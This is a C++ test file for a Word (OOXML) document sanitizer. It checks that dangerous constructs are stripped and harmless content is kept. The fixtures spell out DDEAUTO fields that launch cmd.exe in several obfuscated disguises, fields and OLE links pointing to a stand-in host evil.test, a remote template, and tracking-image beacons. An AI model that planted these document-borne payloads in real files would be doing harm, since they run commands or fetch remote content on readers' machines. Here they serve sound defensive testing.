#include "tests/sanitizer/formats/ooxml/support.h"

namespace sekisho::tests {

namespace {

std::string run(const std::string& content) {
    return "<w:r>" + content + "</w:r>";
}
std::string field(const std::string& instruction, const std::string& result) {
    return run(R"(<w:fldChar w:fldCharType="begin"/>)") + instruction +
           run(R"(<w:fldChar w:fldCharType="separate"/>)") + run("<w:t>" + result + "</w:t>") +
           run(R"(<w:fldChar w:fldCharType="end"/>)");
}
std::string says(const std::string& text) {
    return run("<w:instrText xml:space=\"preserve\">" + text + "</w:instrText>");
}
std::string paragraph(const std::string& content) {
    return "<w:p>" + content + "</w:p>";
}

Outcome word(const std::string& body, const std::vector<Link>& links = {}) {
    return rebuilt(Sample::word(body, links));
}

} // namespace

TEST(OoxmlWord, KeepsTextTablesAndStyles) {
    Sample sample = Sample::word(
        R"(<w:p w:rsidR="00AB"><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t xml:space="preserve">住民 &lt;票&gt; &amp; </w:t></w:r></w:p>)"
        R"(<w:tbl><w:tr><w:tc><w:p><w:r><w:t>cell</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:sectPr/>)",
        {{"rId7", "styles", "styles.xml"}});
    sample.part(
        "word/styles.xml",
        R"(<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="Heading1"/></w:styles>)",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml");
    const Outcome outcome = rebuilt(sample);
    ASSERT_TRUE(outcome.type) << to_line(outcome.type.error());
    EXPECT_EQ(*outcome.type, Type::docx);
    EXPECT_TRUE(outcome.entries.empty());
    const std::string& document = outcome.member("word/document.xml");
    EXPECT_NE(document.find("<w:t xml:space=\"preserve\">住民 &lt;票&gt; &amp; </w:t>"), std::string::npos);
    EXPECT_NE(document.find("<w:tbl><w:tr><w:tc><w:p><w:r><w:t>cell</w:t>"), std::string::npos);
    EXPECT_NE(document.find("<w:pStyle w:val=\"Heading1\"/>"), std::string::npos);
    EXPECT_TRUE(outcome.is_gone("rsidR"));
    EXPECT_TRUE(outcome.has("word/styles.xml"));
}

TEST(OoxmlWord, TakesOutDdeFieldsInAnyDisguise) {
    const std::string command = R"(c:\\windows\\system32\\cmd.exe "/k calc.exe")";
    const std::vector<std::string> disguises = {
        paragraph(field(says(" DDEAUTO " + command), "shown")),
        paragraph(field(says(" D") + says("DE") + says("AUTO ") + says(command), "shown")),
        paragraph(field(says(" ddeauto " + command), "shown")),
        // The name is put together by another field.
        paragraph(field(field(says(" QUOTE 68 68 69 65 85 84 79 "), "x") + says(" " + command), "shown")),
        paragraph(field(says(" IF 1=1 ") + field(says(" DDE " + command), "x"), "shown")),
        // The instruction depends on what the reader understands, or on tracked changes.
        paragraph(field(R"(<mc:AlternateContent><mc:Choice Requires="wps">)" + says(" PAGE ") +
                            "</mc:Choice><mc:Fallback>" + says(" DDE " + command) +
                            "</mc:Fallback></mc:AlternateContent>",
                        "shown")),
        paragraph(field("<w:ins w:id=\"1\">" + says(" PAGE ") + "</w:ins>" + says("DDE " + command), "shown")),
        paragraph(run(R"(<w:fldChar w:fldCharType="begin"/>)")) + paragraph(says(" DDE ")) + paragraph(says(command)) +
            paragraph(run(R"(<w:fldChar w:fldCharType="separate"/>)") + run("<w:t>shown</w:t>") +
                      run(R"(<w:fldChar w:fldCharType="end"/>)")),
        paragraph(R"(<w:fldSimple w:instr=" DDEAUTO )" +
                  std::string("c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;") +
                  R"("><w:r><w:t>shown</w:t></w:r></w:fldSimple>)"),
    };
    for (const std::string& body : disguises) {
        const Outcome outcome = word(body);
        ASSERT_TRUE(outcome.type);
        EXPECT_TRUE(outcome.is_gone("calc.exe")) << body;
        EXPECT_TRUE(outcome.is_gone("cmd.exe")) << body;
        EXPECT_TRUE(outcome.is_gone("fldChar")) << body;
        EXPECT_NE(outcome.member("word/document.xml").find("<w:t>shown</w:t>"), std::string::npos) << body;
        EXPECT_TRUE(outcome.found(Finding::ooxml_dde_field) || outcome.found(Finding::ooxml_field)) << body;
    }
    EXPECT_TRUE(word(disguises[0]).found(Finding::ooxml_dde_field));
    EXPECT_TRUE(word(disguises[3]).found(Finding::ooxml_field));
}

TEST(OoxmlWord, InstructionsOutsideRunsGo) {
    const Outcome outcome =
        word("<w:p><w:fldChar w:fldCharType=\"begin\"/><w:instrText> DDE evil.test </w:instrText><w:fldChar "
             "w:fldCharType=\"end\"/></w:p><w:p>" +
             field(says(" PAGE ") + "<w:instrText>DDE evil.test</w:instrText>", "shown") + "</w:p>");
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.is_gone("evil.test"));
    EXPECT_TRUE(outcome.is_gone("fldChar"));
    EXPECT_FALSE(outcome.is_gone("shown"));
}

TEST(OoxmlWord, FieldsWithoutAnEndGo) {
    const Outcome outcome =
        word(paragraph(run(R"(<w:fldChar w:fldCharType="begin"/>)") + says(" PAGE ") + run("<w:t>tail</w:t>")));
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.is_gone("fldChar"));
    EXPECT_TRUE(outcome.is_gone("instrText"));
    EXPECT_TRUE(outcome.found(Finding::ooxml_field));
}

TEST(OoxmlWord, HarmlessFieldsStay) {
    for (const std::string instruction : {" PAGE ", " NUMPAGES \\* MERGEFORMAT", " TOC \\o \"1-3\" \\h \\z \\u ",
                                          " REF _Ref1 \\h ", " =SUM(ABOVE) ", " HYPERLINK \"https://www.example.jp/\" ",
                                          " HYPERLINK \\l \"_Toc1\" ", " DATE \\@ \"yyyy\" ", " MERGEFIELD name "}) {
        const Outcome outcome = word(paragraph(field(says(instruction), "1")));
        ASSERT_TRUE(outcome.type);
        EXPECT_TRUE(outcome.entries.empty()) << instruction;
        EXPECT_NE(outcome.member("word/document.xml").find("fldCharType=\"separate\""), std::string::npos)
            << instruction;
    }
    const std::string toc = field(says(" TOC \\o "), "Chapter " + std::string("</w:t></w:r>") +
                                                         field(says(" PAGEREF _Toc1 "), "7") + "<w:r><w:t>");
    EXPECT_TRUE(word(paragraph(toc)).entries.empty());
}

TEST(OoxmlWord, FieldsThatReadFilesGo) {
    for (const std::string instruction :
         {" INCLUDEPICTURE \"http://evil.test/x.png\" \\d ", " INCLUDETEXT \"\\\\\\\\evil.test\\\\a\" ",
          " LINK Excel.Sheet.8 \"evil.test\" ", " IMPORT evil.test ", " RD evil.test "}) {
        const Outcome outcome = word(paragraph(field(says(instruction), "shown")));
        ASSERT_TRUE(outcome.type);
        EXPECT_TRUE(outcome.is_gone("evil.test")) << instruction;
        EXPECT_TRUE(outcome.found(Finding::ooxml_field_include)) << instruction;
    }
    for (const std::string instruction :
         {" HYPERLINK \"file://evil.test/a\" ", " HYPERLINK \"\\\\\\\\evil.test\\\\a\" ",
          " HYPERLINK \"javascript:evil.test\" ", " MACROBUTTON evil.test "}) {
        const Outcome outcome = word(paragraph(field(says(instruction), "shown")));
        ASSERT_TRUE(outcome.type);
        EXPECT_TRUE(outcome.is_gone("evil.test")) << instruction;
        EXPECT_TRUE(outcome.found(Finding::ooxml_hyperlink) || outcome.found(Finding::ooxml_field));
    }
}

TEST(OoxmlWord, HyperlinksFollowAListOfSchemes) {
    const std::string body = paragraph(R"(<w:hyperlink r:id="a"><w:r><w:t>good</w:t></w:r></w:hyperlink>)"
                                       R"(<w:hyperlink r:id="b" w:tgtFrame="x"><w:r><w:t>bad</w:t></w:r></w:hyperlink>)"
                                       R"(<w:hyperlink r:id="c"><w:r><w:t>unc</w:t></w:r></w:hyperlink>)");
    const Outcome outcome = word(body, {{"a", "hyperlink", "https://www.example.jp/?a=1&amp;b=2", true},
                                        {"b", "hyperlink", "file:///c:/evil.test", true},
                                        {"c", "hyperlink", "\\\\evil.test\\share", true}});
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.found(Finding::ooxml_hyperlink));
    EXPECT_TRUE(outcome.is_gone("evil.test"));
    const std::string& document = outcome.member("word/document.xml");
    EXPECT_NE(document.find("<w:hyperlink><w:r><w:t>bad"), std::string::npos);
    EXPECT_NE(document.find("<w:hyperlink r:id=\"a\"><w:r><w:t>good"), std::string::npos);
    EXPECT_NE(outcome.member("word/_rels/document.xml.rels").find("https://www.example.jp/?a=1&amp;b=2"),
              std::string::npos);
}

TEST(OoxmlWord, OutsideReferencesGo) {
    struct Row {
        std::string body;
        Link link;
        Finding finding;
    };
    const std::vector<Row> rows = {
        {R"(<w:altChunk r:id="x"/>)", {"x", "aFChunk", "evil.html"}, Finding::ooxml_alt_chunk},
        {R"(<w:p><w:subDoc r:id="x"/></w:p>)", {"x", "subDocument", "evil.docx", true}, Finding::ooxml_sub_document},
        {R"(<w:p><w:r><w:object><w:control r:id="x" w:name="evil"/></w:object></w:r></w:p>)",
         {"x", "control", "evil.xml"},
         Finding::ooxml_activex},
        {R"(<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="x"/></w:object></w:r></w:p>)",
         {"x", "oleObject", "evil.bin"},
         Finding::ooxml_embedding},
        {R"(<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="x" UpdateMode="Always"/></w:object></w:r></w:p>)",
         {"x", "oleObject", "http://evil.test/a.hta", true},
         Finding::ooxml_ole_link},
    };
    for (const Row& row : rows) {
        Sample sample = Sample::word(row.body, {row.link});
        if (!row.link.external) sample.part("word/" + row.link.target, "evil content", "application/x-evil");
        const Outcome outcome = rebuilt(sample);
        ASSERT_TRUE(outcome.type);
        EXPECT_TRUE(outcome.found(row.finding)) << row.body;
        EXPECT_TRUE(outcome.is_gone("evil.")) << row.body;
        EXPECT_TRUE(outcome.is_gone("evil content")) << row.body;
        EXPECT_FALSE(outcome.found(Finding::ooxml_unknown_part)) << row.body;
    }
}

TEST(OoxmlWord, SettingsLoseTemplateAndMailMerge) {
    Sample sample = Sample::word("<w:p/>", {{"s", "settings", "settings.xml"},
                                            {"w", "webSettings", "webSettings.xml"},
                                            {"f", "fontTable", "fontTable.xml"}});
    const std::string ns =
        R"( xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">)";
    const std::string type = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    sample.part(
        "word/settings.xml",
        "<w:settings" + ns +
            R"(<w:attachedTemplate r:id="t"/><w:mailMerge><w:query w:val="evil query"/><w:dataSource r:id="m"/></w:mailMerge><w:docVars><w:docVar w:name="evil" w:val="v"/></w:docVars><w:zoom w:percent="100"/></w:settings>)",
        type + "settings+xml");
    sample.links("word/settings.xml", {{"t", "attachedTemplate", "https://evil.test/t.dotm", true},
                                       {"m", "mailMergeSource", "file:///evil.test", true}});
    sample.part(
        "word/webSettings.xml",
        "<w:webSettings" + ns +
            R"(<w:frameset><w:frame><w:sourceFileName r:id="f"/></w:frame></w:frameset><w:allowPNG/></w:webSettings>)",
        type + "webSettings+xml");
    sample.links("word/webSettings.xml", {{"f", "frame", "https://evil.test/f", true}});
    sample.part("word/fontTable.xml",
                "<w:fonts" + ns + R"(<w:font w:name="MS Mincho"><w:embedRegular r:id="e"/></w:font></w:fonts>)",
                type + "fontTable+xml");
    sample.links("word/fontTable.xml", {{"e", "font", "fonts/evil.odttf"}});
    sample.part("word/fonts/evil.odttf", "evil font", "application/vnd.openxmlformats-officedocument.obfuscatedFont");
    const Outcome outcome = rebuilt(sample);
    ASSERT_TRUE(outcome.type);
    for (const Finding finding : {Finding::ooxml_remote_template, Finding::ooxml_mail_merge, Finding::ooxml_frameset,
                                  Finding::ooxml_font, Finding::ooxml_metadata})
        EXPECT_TRUE(outcome.found(finding)) << row_of(finding).code;
    EXPECT_TRUE(outcome.is_gone("evil"));
    EXPECT_NE(outcome.member("word/settings.xml").find("<w:zoom w:percent=\"100\"/>"), std::string::npos);
}

TEST(OoxmlWord, CustomXmlGoesBoundTextStays) {
    const std::string body =
        R"(<w:sdt><w:sdtPr><w:dataBinding w:xpath="/evil" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>bound</w:t></w:r></w:p></w:sdtContent></w:sdt>)"
        R"(<w:p><w:smartTag w:uri="urn:evil" w:element="x"><w:r><w:t>tagged</w:t></w:r></w:smartTag></w:p>)";
    Sample sample = Sample::word(body, {{"x", "customXml", "../customXml/item1.xml"}});
    sample.part("customXml/item1.xml", "<evil/>");
    sample.links("customXml/item1.xml", {{"y", "customXmlProps", "itemProps1.xml"}});
    sample.part("customXml/itemProps1.xml", "<evil/>");
    const Outcome outcome = rebuilt(sample);
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.found(Finding::ooxml_custom_xml));
    EXPECT_FALSE(outcome.found(Finding::ooxml_unknown_part));
    EXPECT_TRUE(outcome.is_gone("evil"));
    EXPECT_NE(outcome.member("word/document.xml").find("bound"), std::string::npos);
    EXPECT_NE(outcome.member("word/document.xml").find("tagged"), std::string::npos);
}

TEST(OoxmlWord, PeopleLoseTheirNamesChangesStay) {
    const Outcome outcome = word(
        R"(<w:p><w:ins w:id="1" w:author="山田" w:date="2020-01-01T00:00:00Z"><w:r><w:t>added</w:t></w:r></w:ins><w:del w:id="2" w:author="山田"><w:r><w:delText>gone</w:delText></w:r></w:del></w:p>)");
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.found(Finding::ooxml_metadata));
    EXPECT_TRUE(outcome.is_gone("山田"));
    EXPECT_NE(outcome.member("word/document.xml").find("<w:delText>gone"), std::string::npos);
    EXPECT_NE(outcome.member("word/document.xml").find("w:author=\"Author\""), std::string::npos);
}

TEST(OoxmlWord, PicturesPassOrAreReplaced) {
    const std::string drawing =
        R"(<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:embed="good"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>)"
        R"(<w:p><w:r><w:pict><v:shape><v:imagedata r:id="emf" o:title="c:\evil"/></v:shape></w:pict></w:r></w:p>)"
        R"(<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="beacon"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>)";
    Sample sample = Sample::word(drawing, {{"good", "image", "media/a.png"},
                                           {"emf", "image", "media/b.emf"},
                                           {"beacon", "image", "http://evil.test/beacon.png", true}});
    sample.part("word/media/a.png", png());
    sample.part("word/media/b.emf", std::string("\x01\0\0\0", 4) + std::string(36, '\0') + " EMF" + "evil records");
    const Outcome outcome = rebuilt(sample);
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.found(Finding::ooxml_metafile));
    EXPECT_TRUE(outcome.found(Finding::ooxml_external_image));
    EXPECT_TRUE(outcome.is_gone("evil"));
    EXPECT_TRUE(outcome.is_gone("r:link"));
    const std::string& document = outcome.member("word/document.xml");
    EXPECT_NE(document.find("r:embed=\"good\""), std::string::npos);
    EXPECT_NE(document.find("r:embed=\"beacon\""), std::string::npos);
    EXPECT_EQ(outcome.member("word/media/image1.png"), png());
    EXPECT_TRUE(outcome.member("word/media/image2.png").starts_with("\x89PNG"));
}

TEST(OoxmlWord, APictureNeverComesThroughAHyperlink) {
    const Outcome outcome = word(
        R"(<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="l" r:embed="l"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>)",
        {{"l", "hyperlink", "http://evil.test/beacon.png", true}});
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.is_gone("evil.test"));
}

TEST(OoxmlWord, ChoicesStayWhileUnderstood) {
    const std::string fallback = "<mc:Fallback><w:pict><v:shape id=\"old\"/></w:pict></mc:Fallback>";
    const std::string shape =
        R"(<w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing>)";
    const Outcome known = word("<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"wps\">" + shape + "</mc:Choice>" +
                               fallback + "</mc:AlternateContent></w:r></w:p>");
    ASSERT_TRUE(known.type);
    EXPECT_NE(known.member("word/document.xml").find("<mc:Choice Requires=\"wps\"><w:drawing>"), std::string::npos);
    EXPECT_NE(known.member("word/document.xml").find("<mc:Fallback><w:pict>"), std::string::npos);
    const Outcome unknown = word("<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"evil\"><evil:x/></mc:Choice>" +
                                 fallback + "</mc:AlternateContent></w:r></w:p>");
    ASSERT_TRUE(unknown.type);
    EXPECT_TRUE(unknown.found(Finding::ooxml_unknown_element));
    EXPECT_NE(unknown.member("word/document.xml").find("<w:r><w:pict>"), std::string::npos);
    EXPECT_TRUE(unknown.is_gone("AlternateContent>"));
    EXPECT_TRUE(unknown.is_gone("evil"));
}

TEST(OoxmlWord, UnknownMarkupGoes) {
    const Outcome outcome = word(
        R"(<w:p><w:evilElement><w:t>hidden</w:t></w:evilElement><evil:x>y</evil:x><w:r w:evil="1" evil:z="2"><w:t>kept</w:t></w:r></w:p>)");
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.found(Finding::ooxml_unknown_element));
    EXPECT_TRUE(outcome.is_gone("evil"));
    EXPECT_NE(outcome.member("word/document.xml").find("<w:p><w:r><w:t>kept</w:t></w:r></w:p>"), std::string::npos);
}

TEST(OoxmlWord, MacroNamesOfFormFieldsGo) {
    const Outcome outcome = word(paragraph(
        run(R"(<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="n"/><w:entryMacro w:val="evil"/><w:exitMacro w:val="evil"/><w:textInput/></w:ffData></w:fldChar>)") +
        says(" FORMTEXT ") + run(R"(<w:fldChar w:fldCharType="separate"/>)") +
        run(R"(<w:fldChar w:fldCharType="end"/>)")));
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.found(Finding::ooxml_macro_name));
    EXPECT_TRUE(outcome.is_gone("evil"));
    EXPECT_NE(outcome.member("word/document.xml").find("<w:textInput/>"), std::string::npos);
}

// A cell in which only a chunk stood would be empty, which Word calls damaged.
TEST(OoxmlWord, AChunkLeavesAParagraph) {
    Sample sample =
        Sample::word(R"(<w:tbl><w:tr><w:tc><w:altChunk r:id="x"/></w:tc></w:tr></w:tbl><w:altChunk r:id="x"/>)",
                     {{"x", "aFChunk", "evil.mht"}});
    sample.part("word/evil.mht", "evil", "message/rfc822");
    const Outcome outcome = rebuilt(sample);
    ASSERT_TRUE(outcome.type);
    EXPECT_TRUE(outcome.found(Finding::ooxml_alt_chunk));
    EXPECT_TRUE(outcome.is_gone("evil"));
    EXPECT_TRUE(outcome.is_gone("chunk"));
    EXPECT_NE(outcome.member("word/document.xml").find("<w:tc><w:p/></w:tc></w:tr></w:tbl><w:p/></w:body>"),
              std::string::npos);
}

} // namespace sekisho::tests
